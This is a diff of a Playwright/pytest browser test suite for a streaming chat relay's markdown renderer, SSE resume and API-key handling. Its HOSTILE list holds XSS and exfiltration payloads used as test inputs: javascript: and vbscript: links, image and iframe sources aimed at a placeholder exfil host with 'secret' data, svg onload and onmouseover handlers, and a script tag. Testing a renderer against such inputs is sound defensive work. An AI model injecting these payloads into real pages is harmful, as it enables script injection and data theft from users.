@@ -16,15 +16,24 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import pytest
-
-from browser import CHROMIUM, LAST_REPLY, REPLY, ask, capture_screenshot, launch, open_page, wait_state
+from browser import (
+    CHROMIUM,
+    LAST_REPLY,
+    REPLY,
+    PageWatch,
+    ask,
+    capture_screenshot,
+    launch,
+    open_page,
+    wait_state,
+)
 from conftest import openai_env
 from tcpproxy import TCPProxy
 
 if not CHROMIUM.exists():
     pytest.skip(f"Debian's Chromium is needed at {CHROMIUM}", allow_module_level=True)
 
-from playwright.sync_api import expect, sync_playwright  # noqa: E402
+from playwright.sync_api import expect, sync_playwright
 
 pytestmark = pytest.mark.browser
 
@@ -48,7 +57,7 @@ def browser() -> Iterator[Any]:
 @pytest.fixture
 def new_page(browser: Any) -> Iterator[Any]:
     """Open the page at a base URL in a fresh context; fail on page errors or foreign requests."""
-    opened: list[tuple[Any, Any]] = []
+    opened: list[tuple[Any, PageWatch, tuple[str, ...], tuple[str, ...]]] = []
 
     def make(base_url: str, *, allow_console: tuple[str, ...] = (),
              allow_requests: tuple[str, ...] = (), **context_options: Any) -> Any:
@@ -130,7 +139,7 @@ def test_sse_parser(module_page: Any, chunks: list[bytes], expected: list[tuple[
         out.push(...parser.end());
         return out;
     }""", [list(c) for c in chunks])
-    got = []
+    got: list[tuple[Any, ...]] = []
     for item in items:
         if item["kind"] == "event":
             got.append((E, item["type"], item["data"], item["lastEventId"]))
@@ -172,10 +181,10 @@ def test_crlf_upstream_real_stream(new_page: Any, relay_service: Any, sim: Any) 
 # --- rendering ----------------------------------------------------------------------------
 
 MARKDOWN_TOKENS = [
-    "## Stream", "ing *Mark", "down*\n\nIntro with `co", "de` and a [link](https://exa",
+    "#", "# Stream", "ing *Mark", "down*\n\nIntro with `co", "de` and a [link](https://exa",
     "mple.com/docs).\n\n", "- one\n- t", "wo\n- three\n\n", "1. first\n2. second\n\n",
     "``", "`python\n", "def f():\n", "    return 1\n", "``", "`\n\n",
-    "| a | b |\n", "| --- | ---: |\n", "| 1 | **2** |\n| 3 | 4 |\n\n", "Done.",
+    "| a | b |\n", "| --", "- | ---: |\n", "| 1 | **2** |\n| 3 ", "| 4 |\n\n", "Done.",
 ]
 
 
@@ -215,7 +224,161 @@ def test_markdown_renders_while_streaming(new_page: Any, relay_service: Any, sim
     # Markers never flashed as text while their line was unfinished.
     snapshots = page.evaluate("window.__snapshots")
     assert len(snapshots) > 5
-    assert not [s for s in snapshots if "```" in s or "|" in s or "##" in s]
+    assert not [s for s in snapshots if "``" in s or "|" in s or "#" in s]
+
+
+TRICKY_MARKDOWN = """\
+Setext heading
+==============
+
+Para with **bold _nested em_ text** and ~~strike~~ and a <https://example.com/a_b> autolink,
+a bare https://example.com/x_(y) URL and an escaped \\*star\\*.""" + "  \n" + """\
+Hard break above. A [link with (parens)](https://example.com/p(1) "title") and ![img](https://e.com/i.png).
+Snake_case_word and 2*3*4 and **unclosed and `code with *stars*` &amp; &lt;tag&gt; &#x1F600;.
+
+> quote line one
+lazy continuation
+> - item in quote
+
+1) first
+2) second
+   continued
+
+   - nested bullet
+   - another
+
+     ```sh
+     echo nested fence
+     ```
+3) third
+
+* star list
++ plus list
+- [ ] task open
+- [x] task done
+
+***
+
+| left | center | right |
+|:-----|:------:|------:|
+| `a\\|b` | \\| pipe | x |
+no pipe row
+
+~~~
+tilde fence with ``` inside
+~~~
+
+## Heading with `code` ##
+
+```python
+def tail():
+    pass
+"""
+
+ANSWER_MARKDOWN = """\
+> **Simulated provider.** No model was called.
+
+## How this answer reached you
+
+1. The service opened a stream.
+2. A producer greenlet read the upstream.
+
+- Heartbeat comments keep proxies from closing a quiet stream.
+- **Stop** cancels the generation on the server.
+
+```python
+def relay(deltas):
+    for delta in deltas:
+        yield f"data: {delta}\\n\\n"
+```
+
+| part | role |
+| --- | --- |
+| gunicorn + gevent | many streams per worker |
+
+That is all.
+"""
+
+
+@pytest.mark.parametrize("text", [
+    pytest.param(ANSWER_MARKDOWN, id="answer"),
+    pytest.param(TRICKY_MARKDOWN, id="tricky"),
+    pytest.param(TRICKY_MARKDOWN.replace("\n", "\r\n"), id="tricky-crlf"),
+])
+def test_streamed_render_equals_whole_render(module_page: Any, text: str) -> None:
+    """However the text is cut into chunks, freezing and growing in place end in the DOM that
+    rendering the whole text at once gives."""
+    result = module_page.evaluate("""async (text) => {
+        const { MarkdownStream } = await import('/static/markdown/stream.js');
+        const { appendBlocks } = await import('/static/markdown/render.js');
+        const { parseBlocks } = await import('/static/markdown/blocks.js');
+        const lines = text.split(/\\r\\n|\\r|\\n/);
+        if (lines[lines.length - 1] === "") lines.pop();
+        const whole = document.createElement('div');
+        appendBlocks(parseBlocks(lines), whole);
+        const differing = [];
+        for (const size of [1, 2, 3, 7, 16]) {
+            const el = document.createElement('div');
+            const md = new MarkdownStream(el);
+            for (let i = 0; i < text.length; i += size) {
+                md.append(text.slice(i, i + size));
+                md.render();
+            }
+            md.finish();
+            if (el.innerHTML !== whole.innerHTML) differing.push([size, el.innerHTML]);
+        }
+        return {whole: whole.innerHTML, differing};
+    }""", text)
+    assert result["differing"] == [], result["whole"]
+
+
+def test_markdown_stream_work_is_linear(module_page: Any) -> None:
+    """Characters put into the DOM, streaming in 5-character chunks with a render after each:
+    twice the document costs about twice, not four times (finished blocks are frozen DOM; an
+    open fence or table grows by appending)."""
+    work = module_page.evaluate("""async (n) => {
+        const { MarkdownStream } = await import('/static/markdown/stream.js');
+        const source = (n) => {
+            let s = "# Title\\n\\n";
+            for (let i = 0; i < n; i++) s += `Paragraph ${i} with *emphasis* and \\`code\\`.\\n\\n`;
+            for (let i = 0; i < n; i++) s += `- item ${i} **bold**\\n`;
+            s += "\\n```js\\n";
+            for (let i = 0; i < n; i++) s += `const x${i} = ${i};\\n`;
+            s += "```\\n\\n| a | b |\\n| - | - |\\n";
+            for (let i = 0; i < n; i++) s += `| ${i} | *${i}* |\\n`;
+            return s + "\\n> The end.\\n";
+        };
+        const measure = (src) => {
+            const doc = document.implementation.createHTMLDocument("");
+            const el = doc.body.appendChild(doc.createElement("div"));
+            const observer = new MutationObserver(() => {});
+            observer.observe(el, {childList: true, subtree: true, characterData: true,
+                                  characterDataOldValue: true});
+            let chars = 0;
+            const count = () => {
+                for (const r of observer.takeRecords()) {
+                    if (r.type === "characterData") {
+                        const now = r.target.data;
+                        const old = r.oldValue;
+                        chars += now.startsWith(old) ? now.length - old.length : now.length;
+                    } else for (const node of r.addedNodes) chars += node.textContent.length;
+                }
+            };
+            const md = new MarkdownStream(el);
+            for (let i = 0; i < src.length; i += 5) {
+                md.append(src.slice(i, i + 5));
+                md.render();
+                count();
+            }
+            md.finish();
+            count();
+            return {chars, size: src.length, text: el.textContent.length};
+        };
+        return [measure(source(n)), measure(source(2 * n))];
+    }""", 100)
+    small, large = work
+    assert large["text"] > 1.9 * small["text"]
+    assert large["chars"] < 2.5 * small["chars"], work
 
 
 HOSTILE = [
@@ -224,8 +387,9 @@ HOSTILE = [
     "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(2)) [z]( java\tscript:alert(3)) "
     "<javascript:alert(4)> [d](data:text/html,hi) [v](vbscript:x) [rel](/api/chat/stream)\n\n",
     "![]({exfil}/img?q=secret) ![logo]({exfil}/img2) [![nested]({exfil}/img3)]({exfil}/page)\n\n",
-    '<img src="{exfil}/raw"> <iframe src="{exfil}/frame"></iframe> <svg onload="alert(5)"></svg>\n\n',
-    '<a href="javascript:alert(6)" onmouseover="alert(7)">a</a> <style>body{{display:none}}</style>\n\n',
+    '<img src="{exfil}/raw"> <iframe src="{exfil}/frame"></iframe>\n\n',
+    '<svg onload="alert(5)"></svg> <style>body{{display:none}}</style>\n\n',
+    '<a href="javascript:alert(6)" onmouseover="alert(7)">a</a>\n\n',
     "```html\n<script>alert(8)</script>\n```\n",
 ]
 
@@ -317,12 +481,12 @@ def test_csp_header_backs_the_page_up(relay_service: Any) -> None:
 
 
 def test_stop_mid_code_fence_keeps_text_and_closes_upstream(
-        new_page: Any, service_factory: Any, sim: Any) -> None:
+        service_factory: Any, new_page: Any, sim: Any) -> None:
     service = service_factory(openai_env(sim))
     page = new_page(service.url)
     record_snapshots(page)
-    tokens = ["Partial answer.\n\n", "```python\n", "x = 1\n", "y = 2\n", "never shown"]
-    reply = ask(page, sim_text(tokens=tokens, stall_after=4))
+    tokens = ["Partial answer.\n\n", "``", "`python\n", "x = 1\n", "y = 2\n", "never"]
+    reply = ask(page, sim_text(tokens=tokens, stall_after=5, delay=0.08))
     code = reply.locator(".content pre code")
     # The open fence is code while it streams.
     expect(code).to_have_text("x = 1\ny = 2", timeout=15_000)
@@ -366,15 +530,22 @@ def test_error_event_keeps_partial_text(new_page: Any, relay_service: Any, sim: 
     assert "SECRET" not in (reply.text_content() or "")
 
 
-def test_api_key_field_and_http_errors(new_page: Any, service_factory: Any, sim: Any) -> None:
+def test_api_key_field_and_http_errors(service_factory: Any, new_page: Any, sim: Any) -> None:
     service = service_factory(openai_env(sim, API_KEYS="key-one,key-two"))
     page = new_page(service.url, allow_console=("401",))
     key = page.locator("#api-key")
     expect(key).to_be_visible()
+    # No key: nothing is sent, the field asks for one.
+    page.fill("#prompt", "hello")
+    page.click("#send")
+    expect(key).to_be_focused()
+    expect(page.locator(REPLY)).to_have_count(0)
+    # A wrong key: the service's 401 shows as the reply's error, and the prompt comes back.
+    key.fill("wrong-key")
     reply = ask(page, sim_text(tokens=["ok"]))
     assert wait_state(reply) == "error"
     expect(reply.locator(".error")).to_contain_text("401")
-    expect(page.locator("#prompt")).to_have_value(sim_text(tokens=["ok"]))  # given back
+    expect(page.locator("#prompt")).to_have_value(sim_text(tokens=["ok"]))
     assert sim.requests == []
     key.fill("key-two")
     reply = ask(page, sim_text(tokens=["Authorized."]))
@@ -390,7 +561,7 @@ def test_api_key_field_and_http_errors(new_page: Any, service_factory: Any, sim:
 
 
 def test_connection_cut_mid_answer_resumes_exactly(
-        new_page: Any, service_factory: Any, sim: Any) -> None:
+        service_factory: Any, new_page: Any, sim: Any) -> None:
     service = service_factory(openai_env(sim))
     port = int(service.url.rsplit(":", 1)[1])
     with TCPProxy(("127.0.0.1", port)) as proxy:
@@ -436,6 +607,28 @@ def test_resume_of_expired_stream_is_an_error(new_page: Any, relay_service: Any)
     assert resumes == ["2"]
     assert content_text(reply) == "kept text"
     expect(reply.locator(".error")).to_contain_text("no longer be resumed")
+
+
+def test_resume_applies_each_event_once(new_page: Any, relay_service: Any) -> None:
+    """A resume that repeats events already shown (seq <= Last-Event-ID) does not double them."""
+    page = new_page(relay_service.url)
+    resumes: list[str | None] = []
+
+    def replaying(route: Any) -> None:
+        resumes.append(route.request.headers.get("last-event-id"))
+        body = ('id: 1\ndata: {"type":"token","token":"kept ","index":0}\n\n'
+                'id: 2\ndata: {"type":"token","token":"text","index":1}\n\n'
+                'id: 3\ndata: {"type":"token","token":" and more","index":2}\n\n'
+                'id: 4\ndata: {"type":"done","finish_reason":"stop","usage":null}\n\n'
+                "data: [DONE]\n\n")
+        route.fulfill(status=200, body=body, headers={"Content-Type": "text/event-stream"})
+
+    page.route("**/api/chat/stream", _truncated_stream)
+    page.route("**/api/chat/stream/gone", replaying)
+    reply = ask(page, "hello")
+    assert wait_state(reply) == "done"
+    assert resumes == ["2"]
+    assert content_text(reply) == "kept text and more"
 
 
 def test_gives_up_after_bounded_resume_attempts(new_page: Any, relay_service: Any) -> None:
@@ -484,7 +677,7 @@ def test_multi_turn_sends_the_conversation(new_page: Any, relay_service: Any, si
     assert content_text(reply2) == "Bye."
 
 
-def test_phone_width_and_following_the_end(new_page: Any, service_factory: Any) -> None:
+def test_phone_width_and_following_the_end(service_factory: Any, new_page: Any) -> None:
     service = service_factory({"SIMULATED_TOKENS_PER_SECOND": 60})
     page = new_page(service.url, viewport={"width": 390, "height": 700}, is_mobile=True,
                     has_touch=True)
@@ -509,8 +702,10 @@ def test_phone_width_and_following_the_end(new_page: Any, service_factory: Any) 
         assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390
 
 
-def test_screenshot_mid_answer(new_page: Any, service_factory: Any, tmp_path: Any) -> None:
-    service = service_factory({"SIMULATED_TOKENS_PER_SECOND": 40})
+def test_screenshot_mid_answer(service_factory: Any, new_page: Any, tmp_path: Any) -> None:
+    service = service_factory({"SIMULATED_TOKENS_PER_SECOND": 80})
     page = new_page(service.url)
     path = capture_screenshot(page, tmp_path / "screenshot.png")
     assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+    page.click("#stop")
+    assert wait_state(page.locator(LAST_REPLY)) == "stopped"
